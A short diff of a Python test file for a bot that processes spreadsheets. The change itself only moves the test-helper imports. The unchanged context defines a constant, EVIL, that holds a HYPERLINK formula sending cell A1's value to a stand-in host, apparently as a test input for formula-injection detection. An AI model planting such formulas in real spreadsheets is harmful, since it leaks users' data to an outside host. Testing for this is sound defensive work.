@@ -14,8 +14,8 @@ from openpyxl import load_workbook
 
 from bot.domain import Role, Verdict
 from bot.files.cells import is_formula_like
-from tests.harness import BotHarness, FakeClock, FakeUser
-from tests.office import add_household, add_visit, wib
+from tests.support.harness import BotHarness, FakeClock, FakeUser
+from tests.support.office import add_household, add_visit, wib
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 NOW = wib(2026, 12, 2, 10, 0)
